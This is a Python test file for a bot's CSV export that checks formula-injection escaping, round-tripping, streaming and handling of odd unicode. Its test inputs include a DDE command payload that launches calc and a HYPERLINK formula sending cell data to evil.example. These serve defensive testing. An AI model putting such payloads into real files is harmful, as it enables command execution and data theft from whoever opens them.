import csv
import io
from collections.abc import AsyncIterator
from typing import Any

import pytest

from bot.render.csv_file import csv_line, csv_stream, safe_cell

FORMULAS = [
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =cmd|' /C calc'!A0",
    "＝1+1",
    '=HYPERLINK("http://evil.example?x="&A1)',
]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-5", "+3.2", "-1e9", "Spider-Man", "a=b", "", "'quoted'"])
def test_what_is_no_formula_is_kept(text: str) -> None:
    assert safe_cell(text) == text


def test_a_line_reads_back() -> None:
    values = ["a,b", 'say "hi"', "two\nlines", None, 7, 1.5, False, [1, "é"], {"_labels": ["X"]}]
    [row] = csv.reader(io.StringIO(csv_line(values), newline=""))
    assert row == [
        "a,b", 'say "hi"', "two\nlines", "", "7", "1.5", "false", '[1, "é"]', '{"_labels": ["X"]}',
    ]  # fmt: skip


async def rows(count: int) -> AsyncIterator[tuple[tuple[str, ...], tuple[Any, ...]]]:
    for number in range(count):
        yield ("film", "year"), (f"Film {number}", 1900 + number % 100)


async def test_the_file_comes_in_pieces_and_is_whole() -> None:
    pieces = [piece async for piece in csv_stream(rows(10_000), ["film", "year"])]
    assert len(pieces) > 3
    text = b"".join(pieces).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text, newline="")))
    assert lines[0] == ["film", "year"]
    assert len(lines) == 10_001
    assert lines[-1] == ["Film 9999", "1999"]


async def test_no_rows_leave_the_heads() -> None:
    pieces = [piece async for piece in csv_stream(rows(0), ["film", "=year"])]
    assert b"".join(pieces).decode("utf-8-sig") == "film,'=year\r\n"


async def test_what_no_text_can_hold_breaks_no_file() -> None:
    async def odd() -> AsyncIterator[tuple[tuple[str, ...], tuple[Any, ...]]]:
        yield ("fi\x00lm", "\udc00"), ("a\ud83db", ["c\x00\ud83d"])

    text = b"".join([piece async for piece in csv_stream(odd(), [])]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["film", "?"],
        ["a?b", '["c\\u0000?"]'],
    ]
